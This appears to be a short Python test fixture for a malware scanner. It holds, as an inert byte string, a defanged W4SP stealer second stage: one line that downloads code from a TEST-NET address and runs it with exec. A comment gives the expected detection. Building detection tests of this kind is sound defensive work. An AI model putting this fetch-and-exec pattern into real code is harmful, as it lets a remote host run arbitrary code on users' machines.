# Defanged: the W4SP second stage as the stub writes it, kept in a string; the
# host is TEST-NET and nothing runs it.
STAGE = b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('http://192.0.2.10/inject/Zx0000000000test').read())"""  # expect: HS207 high


def size():
    return len(STAGE)
